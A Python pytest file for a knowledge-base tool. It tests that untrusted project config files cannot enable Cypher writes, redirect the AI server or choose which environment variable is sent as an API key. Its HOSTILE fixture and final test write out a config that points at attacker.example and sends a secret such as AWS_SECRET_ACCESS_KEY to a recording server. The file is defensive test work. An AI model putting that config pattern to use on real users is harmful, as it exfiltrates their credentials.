"""A knowledge base's own nodespace.toml changes security settings only once trusted.

Issue 12, hole 3. A shared knowledge base could turn on Cypher writes, move the
runtime folder and point `kb.ask()` at its own server with an environment
variable of its choice as the API key. Now every security-relevant setting
(`SECURITY_RELEVANT`) of a project file is ignored, each with a warning naming
the setting, the file and `nodespace trust PATH`, until the user trusts that
knowledge base; the list lives outside it and names the folder's real path,
device, inode and owner.
"""

from __future__ import annotations

import http.server
import json
import os
import shutil
import subprocess
import sys
import threading
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

import nodespace_lab
from nodespace_lab import load_settings
from nodespace_lab.cli import cli
from nodespace_lab.config import (
    SECTIONS,
    SECURITY_RELEVANT,
    Settings,
    UntrustedSettingWarning,
    trust_list_path,
)
from nodespace_lab.config import trust as trust_list
from nodespace_lab.errors import ConfigError, QueryError
from tests.conftest import TEST_ENGINE

ROOT = Path(__file__).resolve().parents[2]

#: Every setting that is NOT security-relevant, each reviewed: a new setting fails
#: `test_every_setting_is_reviewed` until it is listed here or in SECURITY_RELEVANT.
REVIEWED_HARMLESS = {
    "storage.engine",  # must match the files of the knowledge base; both engines ship with us
    "storage.buffer_pool_mb",
    "storage.max_db_size_gb",
    "storage.max_content_bytes",
    "storage.max_title_chars",
    "search.writer_heap_mb",
    "search.snippet_chars",
    "performance.query_threads",
    "ai.context_length",
    "ai.threads",
    "ai.timeout_s",
    "ai.load_timeout_s",
    "ai.failure_threshold",
    "ai.cooldown_s",
    "ai.openai_model",  # a name sent to the server the user chose
    "ai.answer_tokens",
    "ai.context_nodes",  # how many notes go to the model the user chose
    "service.transaction_timeout_s",
    "service.feed_max_pending_mb",  # limits per authenticated client
    "service.feed_max_pending_messages",
    "service.max_body_mb",  # read only after the token is checked
    "service.max_import_mb",
    "logging.level",  # to the process's own stderr, no file
}

#: A hostile value for every security-relevant setting (valid, and not the default).
HOSTILE: dict[str, Any] = {
    "security.allow_cypher_writes": True,
    "performance.query_timeout_ms": 0,
    "ai.backend": "openai",
    "ai.model_path": "evil.gguf",
    "ai.openai_url": "http://attacker.example:8080/v1",
    "ai.openai_api_key_env": "AWS_SECRET_ACCESS_KEY",
    "ai.embedding_model": "models/evil",
    "service.host": "::1",
    "service.port": 4444,
    "service.runtime_dir": "/tmp/shared-runtime",
    "plugins.allow": ["*"],
    "plugins.deny": ["audit"],
}


def _all_settings() -> set[str]:
    return {
        f"{section}.{name}"
        for section, cls in SECTIONS.items()
        for name in cls.param.objects("existing")
        if name != "name"
    }


def _toml(values: dict[str, Any]) -> str:
    by_section: dict[str, list[str]] = {}
    for dotted, value in values.items():
        section, name = dotted.split(".")
        by_section.setdefault(section, []).append(f"{name} = {json.dumps(value)}")
    return "".join(f"[{s}]\n" + "\n".join(lines) + "\n" for s, lines in by_section.items())


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    """The user's own environment: a config folder of their own, no config file."""
    return {"XDG_CONFIG_HOME": str(tmp_path / "xdg"), "NODESPACE_CONFIG": str(tmp_path / "u.toml")}


@pytest.fixture
def hostile_kb(tmp_path: Path) -> Path:
    """A knowledge-base folder whose nodespace.toml sets every security setting (and one other)."""
    folder = tmp_path / "downloaded"
    folder.mkdir()
    text = _toml({**HOSTILE, "ai.answer_tokens": 99})
    (folder / "nodespace.toml").write_text(text, encoding="utf-8")
    return folder


def _load(folder: Path, env: dict[str, str]) -> tuple[Settings, list[str]]:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        settings = load_settings(folder, env=env, user_file=Path(env["NODESPACE_CONFIG"]))
    found = [str(w.message) for w in caught if issubclass(w.category, UntrustedSettingWarning)]
    return settings, found


def _value(settings: Settings, dotted: str) -> Any:
    section, name = dotted.split(".")
    return getattr(settings.section(section), name)


def _defaults() -> Settings:
    return Settings()


# -- the declaration --------------------------------------------------------------


def test_every_setting_is_reviewed() -> None:
    relevant = set(SECURITY_RELEVANT)
    assert not relevant & REVIEWED_HARMLESS
    assert relevant | REVIEWED_HARMLESS == _all_settings(), (
        "classify every new setting: SECURITY_RELEVANT in config/sections.py, or "
        "REVIEWED_HARMLESS here"
    )
    assert set(HOSTILE) == relevant  # each security setting is tried below
    assert all(SECURITY_RELEVANT.values())


def test_the_settings_reference_marks_security_settings() -> None:
    from nodespace_lab.config.reference import settings_markdown

    rows = [line for line in settings_markdown().splitlines() if line.startswith("| `")]
    marked = {line.split("`")[1] for line in rows if "**Security setting**" in line}
    assert marked == {dotted.split(".")[1] for dotted in SECURITY_RELEVANT}


# -- untrusted: ignored, each warned --------------------------------------------------


def test_untrusted_security_settings_are_ignored_each_with_a_warning(
    hostile_kb: Path, env: dict[str, str]
) -> None:
    settings, found = _load(hostile_kb, env)
    defaults = _defaults()
    for dotted in SECURITY_RELEVANT:
        assert _value(settings, dotted) == _value(defaults, dotted), dotted
    assert settings.ai.answer_tokens == 99  # other settings of the file still apply
    assert len(found) == len(SECURITY_RELEVANT) == len(settings.ignored)
    project = hostile_kb / "nodespace.toml"
    for dotted, message in zip(HOSTILE, found, strict=True):
        assert message.startswith(f"{project}: {dotted} is ignored: ")
        assert f"not in your trust list {trust_list_path(env)}" in message
        assert SECURITY_RELEVANT[dotted] in message
        assert message.endswith(f"nodespace trust {hostile_kb}")
    assert str(project) in settings.sources


def test_the_user_config_environment_and_overrides_always_apply(
    hostile_kb: Path, env: dict[str, str], tmp_path: Path
) -> None:
    user = Path(env["NODESPACE_CONFIG"])
    user.write_text('[ai]\nopenai_url = "http://127.0.0.1:8080/v1"\n', encoding="utf-8")
    own = {**env, "NODESPACE_SERVICE_PORT": "5555"}
    with pytest.warns(UntrustedSettingWarning):
        settings = load_settings(
            hostile_kb,
            env=own,
            user_file=user,
            overrides={"security": {"allow_cypher_writes": True}},
        )
    assert settings.ai.openai_url == "http://127.0.0.1:8080/v1"  # the user's file, not the KB's
    assert settings.service.port == 5555
    assert settings.security.allow_cypher_writes is True


def test_invalid_values_of_ignored_settings_do_not_matter_but_unknown_names_still_fail(
    tmp_path: Path, env: dict[str, str]
) -> None:
    folder = tmp_path / "kb"
    folder.mkdir()
    (folder / "nodespace.toml").write_text("[service]\nport = 'x'\n", encoding="utf-8")
    settings, found = _load(folder, env)
    assert settings.service.port == 0 and len(found) == 1
    (folder / "nodespace.toml").write_text("[security]\nallow_writes = true\n", encoding="utf-8")
    with pytest.raises(ConfigError, match=r"unknown setting security\.allow_writes"):
        _load(folder, env)


# -- trusted: applied -----------------------------------------------------------------


def _cli(env: dict[str, str], *args: str) -> Any:
    result = CliRunner().invoke(cli, list(args), env=env)
    return result


def test_after_nodespace_trust_they_apply(hostile_kb: Path, env: dict[str, str]) -> None:
    trusted = _cli(env, "trust", str(hostile_kb))
    assert trusted.exit_code == 0, trusted.output
    assert f"Trusted {hostile_kb}" in trusted.output
    assert "ai.openai_url = 'http://attacker.example:8080/v1'" in trusted.output
    settings, found = _load(hostile_kb, env)
    assert found == [] and settings.ignored == []
    for dotted, value in HOSTILE.items():
        assert _value(settings, dotted) == value, dotted

    listed = _cli(env, "trust", "--list", "--format", "json")
    [entry] = json.loads(listed.output)
    assert (entry["path"], entry["status"]) == (str(hostile_kb), "ok")

    assert _cli(env, "untrust", str(hostile_kb)).exit_code == 0
    _, found = _load(hostile_kb, env)
    assert len(found) == len(SECURITY_RELEVANT)
    again = _cli(env, "untrust", str(hostile_kb))
    assert again.exit_code == 1 and "is not in the trust list" in again.output


def test_nodespace_config_says_whether_trusted_and_what_was_ignored(
    hostile_kb: Path, env: dict[str, str]
) -> None:
    shown = _cli(env, "--kb", str(hostile_kb), "config")
    assert shown.exit_code == 0, shown.output
    assert "# Trusted knowledge base: no" in shown.output
    ignored = [line for line in shown.output.splitlines() if line.startswith("# Ignored: ")]
    assert len(ignored) == len(SECURITY_RELEVANT)
    assert "warning:" not in shown.output  # reported once, in the header, not twice
    assert _cli(env, "trust", str(hostile_kb)).exit_code == 0
    shown = _cli(env, "--kb", str(hostile_kb), "config")
    assert "# Trusted knowledge base: yes" in shown.output and "# Ignored" not in shown.output
    assert 'openai_url = "http://attacker.example:8080/v1"' in shown.output


def test_the_trust_list_is_private_and_outside_the_knowledge_base(
    hostile_kb: Path, env: dict[str, str]
) -> None:
    assert _cli(env, "trust", str(hostile_kb)).exit_code == 0
    path = trust_list_path(env)
    assert path.parent == Path(env["XDG_CONFIG_HOME"]) / "nodespace"
    assert not path.is_relative_to(hostile_kb)
    assert path.stat().st_mode & 0o777 == 0o600 and path.parent.stat().st_mode & 0o777 == 0o700
    assert [p.name for p in path.parent.iterdir()] == ["trusted.json"]  # no temporary left
    [entry] = json.loads(path.read_text())["trusted"]
    st = hostile_kb.stat()
    assert (entry["device"], entry["inode"], entry["owner"]) == (st.st_dev, st.st_ino, st.st_uid)


def test_trust_is_keyed_by_the_real_path(
    hostile_kb: Path, env: dict[str, str], tmp_path: Path
) -> None:
    link = tmp_path / "link"
    link.symlink_to(hostile_kb)
    assert _cli(env, "trust", str(link)).exit_code == 0
    [entry] = trust_list.read_entries(trust_list_path(env))
    assert entry.path == str(hostile_kb)
    settings, found = _load(link, env)  # opened through the link: the same folder
    assert found == [] and settings.ai.openai_url == HOSTILE["ai.openai_url"]


def test_a_folder_swapped_in_at_a_trusted_path_is_not_trusted(
    hostile_kb: Path, env: dict[str, str], tmp_path: Path
) -> None:
    assert _cli(env, "trust", str(hostile_kb)).exit_code == 0
    shutil.move(hostile_kb, tmp_path / "moved-away")
    replacement = tmp_path / "replacement"
    replacement.mkdir()
    (replacement / "nodespace.toml").write_text(_toml(HOSTILE), encoding="utf-8")
    replacement.rename(hostile_kb)  # the same path, another folder
    settings, found = _load(hostile_kb, env)
    assert settings.ai.openai_url == "" and len(found) == len(SECURITY_RELEVANT)
    assert "it was trusted, but replaced: the folder at this path is not the one" in found[0]
    listed = _cli(env, "trust", "--list", "--format", "json")
    assert json.loads(listed.output)[0]["status"].startswith("replaced")


def test_a_project_file_writable_by_others_is_not_applied_even_when_trusted(
    hostile_kb: Path, env: dict[str, str]
) -> None:
    assert _cli(env, "trust", str(hostile_kb)).exit_code == 0
    (hostile_kb / "nodespace.toml").chmod(0o666)
    settings, found = _load(hostile_kb, env)
    assert settings.security.allow_cypher_writes is False
    assert "is writable by other users" in found[0] and "chmod go-w" in found[0]


def test_a_trust_list_writable_by_others_is_not_used(hostile_kb: Path, env: dict[str, str]) -> None:
    assert _cli(env, "trust", str(hostile_kb)).exit_code == 0
    trust_list_path(env).chmod(0o666)
    settings, found = _load(hostile_kb, env)
    assert settings.ai.openai_url == ""
    assert "is not used" in found[0] and "chmod 600" in found[0]
    listed = _cli(env, "trust", "--list")
    assert listed.exit_code == 1 and "is not used" in listed.output


def test_trust_needs_an_existing_folder(env: dict[str, str], tmp_path: Path) -> None:
    missing = _cli(env, "trust", str(tmp_path / "nowhere"))
    assert missing.exit_code == 1 and "is not an existing folder" in missing.output
    usage = _cli(env, "trust", str(tmp_path), "--list")
    assert usage.exit_code == 2


# -- through the Python API and the real command -------------------------------------------


@pytest.fixture
def process_env(env: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """`env` as the process environment, with the test engine and small sizes."""
    full = {
        **env,
        "NODESPACE_STORAGE_ENGINE": TEST_ENGINE,
        "NODESPACE_STORAGE_BUFFER_POOL_MB": "64",
        "NODESPACE_STORAGE_MAX_DB_SIZE_GB": "4",
    }
    for name, value in full.items():
        monkeypatch.setenv(name, value)
    for name in ("NODESPACE_KB", "NODESPACE_SERVICE"):
        monkeypatch.delenv(name, raising=False)
    return full


def test_python_open_ignores_then_applies_after_trust(
    tmp_path: Path, process_env: dict[str, str]
) -> None:
    folder = tmp_path / "kb"
    nodespace_lab.open(folder).close()
    (folder / "nodespace.toml").write_text(
        "[security]\nallow_cypher_writes = true\n", encoding="utf-8"
    )
    with pytest.warns(UntrustedSettingWarning, match="security.allow_cypher_writes is ignored"):
        kb = nodespace_lab.open(folder)
    with kb, pytest.raises(QueryError, match="allow_cypher_writes"):
        kb.cypher("CREATE (:Node {id: 'x'})", write=True)
    assert _cli(process_env, "trust", str(folder)).exit_code == 0
    with warnings.catch_warnings():
        warnings.simplefilter("error", UntrustedSettingWarning)
        with nodespace_lab.open(folder) as kb:
            assert kb.settings.security.allow_cypher_writes is True
            kb.cypher("CREATE (:Ref {key: 'written'})", write=True)


def _shell(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    full = {k: v for k, v in os.environ.items() if not k.startswith("NODESPACE_")}
    return subprocess.run(
        [sys.executable, "-m", "nodespace_lab", *args],
        env={**full, **env, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_the_real_command_warns_then_trusts(
    hostile_kb: Path, tmp_path: Path, process_env: dict[str, str]
) -> None:
    folder = tmp_path / "kb"
    assert _shell(process_env, "init", str(folder)).returncode == 0
    shutil.copy(hostile_kb / "nodespace.toml", folder / "nodespace.toml")
    tree = _shell(process_env, "--kb", str(folder), "tree")
    assert tree.returncode == 0, tree.stderr
    lines = tree.stderr.splitlines()
    assert len(lines) == len(SECURITY_RELEVANT), tree.stderr  # once each, not per load
    assert all(line.startswith("warning: ") for line in lines)
    assert "Traceback" not in tree.stderr and "UntrustedSettingWarning" not in tree.stderr
    assert "ai.openai_api_key_env is ignored" in tree.stderr

    config = json.loads(
        _shell(process_env, "--kb", str(folder), "config", "--format", "json").stdout
    )
    assert len(config["ignored"]) == len(SECURITY_RELEVANT)
    assert config["settings"]["ai"]["openai_url"] == ""

    trusted = _shell(process_env, "trust", str(folder))
    assert trusted.returncode == 0 and f"Trusted {folder}" in trusted.stdout
    listed = _shell(process_env, "trust", "--list")
    assert listed.stdout.startswith(f"{folder}\n  ok; owner ")
    config = json.loads(
        _shell(process_env, "--kb", str(folder), "config", "--format", "json").stdout
    )
    assert (
        config["ignored"] == []
        and config["settings"]["ai"]["openai_url"] == HOSTILE["ai.openai_url"]
    )
    assert _shell(process_env, "untrust", str(folder)).returncode == 0


# -- the attack itself: the API key goes to the knowledge base's server ---------------------


class _Recorder(http.server.BaseHTTPRequestHandler):
    """An OpenAI-compatible `GET /v1/models` that records who asked with which key."""

    seen: list[str]

    def do_GET(self) -> None:
        self.seen.append(self.headers.get("Authorization", ""))
        body = json.dumps({"data": [{"id": "evil"}]}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def attacker_server() -> Iterator[tuple[str, list[str]]]:
    seen: list[str] = []
    handler = type("Handler", (_Recorder,), {"seen": seen})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/v1", seen
    server.shutdown()
    server.server_close()


def test_an_untrusted_knowledge_base_cannot_send_an_environment_variable_to_its_server(
    tmp_path: Path, env: dict[str, str], attacker_server: tuple[str, list[str]]
) -> None:
    from nodespace_lab.models.backend import create_backend, resolve_backend_name

    url, seen = attacker_server
    folder = tmp_path / "kb"
    folder.mkdir()
    (folder / "nodespace.toml").write_text(
        f'[ai]\nbackend = "openai"\nopenai_url = "{url}"\nopenai_api_key_env = "MY_SECRET"\n',
        encoding="utf-8",
    )
    own = {**env, "MY_SECRET": "s3cret"}
    os.environ["MY_SECRET"] = "s3cret"  # the backend reads the key from the process
    try:
        settings, found = _load(folder, own)
        assert len(found) == 3
        assert resolve_backend_name(settings.ai.backend) == "llamacpp"  # not the KB's server
        assert seen == []

        trust_list.add(folder, trust_list_path(own))  # the user trusts it: now it is theirs
        settings, found = _load(folder, own)
        assert found == []
        create_backend(settings.ai).load()
        assert seen == ["Bearer s3cret"]
    finally:
        os.environ.pop("MY_SECRET", None)
